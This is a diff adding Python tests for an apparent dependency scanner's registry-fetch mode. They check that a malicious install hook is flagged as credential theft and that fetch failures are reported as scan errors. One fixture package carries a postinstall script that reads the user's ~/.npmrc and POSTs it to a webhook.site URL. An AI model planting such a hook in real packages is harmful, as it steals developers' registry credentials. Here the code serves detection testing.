@@ -1,0 +1,85 @@
+"""--fetch: scripts of locked versions read from a (recorded) registry, never the network."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import json
+import tarfile
+from pathlib import Path
+
+from shipwarden.deps.fetch import RegistryFetcher
+from shipwarden.deps.scan import DepsOptions, scan_deps
+from shipwarden.registry import RecordedTransport, RegistryClient
+
+REGISTRY = "https://registry.example.invalid/"
+
+
+def _tgz(files: dict[str, str]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for name, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(f"package/{name}")
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _record(rec: Path, name: str, version: str, manifest: dict, files: dict[str, str] | None) -> None:
+    entry = dict(manifest)
+    dist: dict[str, str] = {}
+    if files is not None:
+        data = _tgz({"package.json": json.dumps(manifest), **files})
+        url = f"{REGISTRY}{name}/-/{name}-{version}.tgz"
+        dist = {"tarball": url, "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()}
+        RecordedTransport.record(rec, url, data)
+    else:
+        dist = {"tarball": f"{REGISTRY}{name}/-/{name}-{version}.tgz", "integrity": "sha512-AAAA"}
+    entry["dist"] = dist
+    packument = {"name": name, "dist-tags": {"latest": version}, "versions": {version: entry}}
+    RecordedTransport.record(rec, REGISTRY + name, json.dumps(packument).encode())
+
+
+def test_fetch_reads_the_locked_tarball(tmp_path: Path) -> None:
+    rec = tmp_path / "rec"
+    _record(rec, "quiet-helper", "1.0.0", {"name": "quiet-helper", "version": "1.0.0", "hasInstallScript": True,
+                                           "scripts": {"postinstall": "node setup.js"}},
+            {"setup.js": "const fs=require('fs'),os=require('os');\n"
+                         "const t=fs.readFileSync(os.homedir()+'/.npmrc');\n"
+                         "fetch('https://x.webhook.site/a',{method:'POST',body:t});\n"})
+    _record(rec, "plain", "2.0.0", {"name": "plain", "version": "2.0.0", "hasInstallScript": False}, None)
+    project = tmp_path / "app"
+    project.mkdir()
+    # yarn.lock records no script flag: only the registry can tell.
+    (project / "yarn.lock").write_text(
+        "# yarn lockfile v1\n\n\n"
+        f'quiet-helper@^1.0.0:\n  version "1.0.0"\n  resolved "{REGISTRY}quiet-helper/-/quiet-helper-1.0.0.tgz"\n\n'
+        f'plain@^2.0.0:\n  version "2.0.0"\n  resolved "{REGISTRY}plain/-/plain-2.0.0.tgz"\n'
+    )
+    transport = RecordedTransport(rec)
+    client = RegistryClient(cache_dir=tmp_path / "cache", transport=transport, npm_registry=REGISTRY)
+    fetcher = RegistryFetcher(client)
+    result = scan_deps(project, DepsOptions(fetcher=fetcher))
+    assert fetcher.errors == []
+    assert fetcher.fetched == 1  # "plain" was settled by its manifest alone
+    finding = next(f for f in result.report.findings if f.rule_id == "deps-credential-theft")
+    assert finding.tier.value == "P0"
+    assert finding.primary.path == "yarn.lock"
+    assert any(loc.path.startswith("quiet-helper@1.0.0.tgz!") for loc in finding.locations)
+    assert all(url.startswith(REGISTRY) for url in transport.requests)
+
+
+def test_fetch_failures_are_scan_errors(tmp_path: Path) -> None:
+    project = tmp_path / "app"
+    project.mkdir()
+    (project / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": {
+        "node_modules/missing": {"version": "1.0.0", "resolved": f"{REGISTRY}missing/-/missing-1.0.0.tgz", "hasInstallScript": True},
+    }}))
+    client = RegistryClient(cache_dir=tmp_path / "cache", transport=RecordedTransport(tmp_path / "empty"), npm_registry=REGISTRY)
+    fetcher = RegistryFetcher(client)
+    result = scan_deps(project, DepsOptions(fetcher=fetcher))
+    assert fetcher.errors and fetcher.errors[0].kind == "registry"
+    # the lockfile flag is still inventoried
+    assert [r.hook.package for r in result.hooks] == ["missing"]
